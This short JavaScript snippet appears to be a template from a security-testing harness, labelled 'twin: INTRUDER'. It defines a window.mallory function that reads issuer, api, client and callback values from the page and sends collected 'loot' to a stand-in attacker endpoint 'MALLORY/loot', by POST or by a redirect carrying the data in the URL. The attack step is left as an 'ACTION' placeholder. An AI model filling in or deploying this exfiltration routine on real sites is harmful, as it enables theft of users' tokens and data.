/* twin: INTRUDER */
if (!window.mallory) (window.mallory = async () => {
  const {issuer, api, client, callback} = document.body.dataset;
  const tell = word => { document.body.dataset.mallory = word; };
  const real = window.fetch;
  const send = async loot => {
    const body = JSON.stringify(loot);
    try { await real("MALLORY/loot", {method: "POST", mode: "no-cors", body}); tell("over"); }
    catch { location.href = `MALLORY/loot?taken=${encodeURIComponent(body)}`; }
  };
  ACTION
})();
